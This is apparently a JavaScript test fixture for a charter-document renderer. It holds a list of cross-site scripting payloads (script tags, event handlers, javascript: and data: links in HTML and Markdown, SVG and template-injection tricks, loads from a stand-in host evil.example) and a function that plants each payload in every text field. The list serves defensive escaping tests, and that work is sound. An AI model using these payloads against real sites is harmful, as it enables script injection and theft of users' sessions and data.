// Payloads of people who want their words to run: each calls `__xss()` or fetches from another origin if it does.
// Written for this list; the kinds follow the published cheat sheets of cross-site scripting.
const RUN = "__xss()";
const AWAY = "https://evil.example/caught";

export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${AWAY}.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}.png">`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x">`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<style>@import "${AWAY}.css";</style>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button autofocus>go</button></form>`,
  `<details open ontoggle=${RUN}>`,
  `<video autoplay><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<a href="javascript:${RUN}">go</a>`,
  `[go](javascript:${RUN})`,
  `[go](JaVaScRiPt:${RUN})`,
  `[go](java\tscript:${RUN})`,
  `[go](data:text/html,<script>parent.${RUN}</script>)`,
  `[go](vbscript:${RUN})`,
  `[go](https://a.example/"onmouseover="${RUN})`,
  `![x](${AWAY}.png)`,
  `<javascript:${RUN}>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
];

/** Words of a charter that a payload can stand in for; other values are numbers, days, choices and names of rows. */
const WORDS = new Set(["name", "function", "unit", "source", "owner", "team"]);

/** A charter's exported form with a payload in every text and every word. */
export function poisoned(document, payload, id) {
  const words = (values) =>
    Object.fromEntries(Object.entries(values ?? {}).map(([key, value]) => [key, WORDS.has(key) ? payload : value]));
  const texts = (all) => Object.fromEntries(Object.keys(all ?? {}).map((key) => [key, payload]));
  const sheet = structuredClone(document.sheet);
  sheet.texts = texts(sheet.texts);
  for (const rows of Object.values(sheet.lists)) {
    for (const row of rows) Object.assign(row, row.texts && { texts: texts(row.texts) }, row.values && { values: words(row.values) });
  }
  return { id, kind: document.kind, sheet };
}
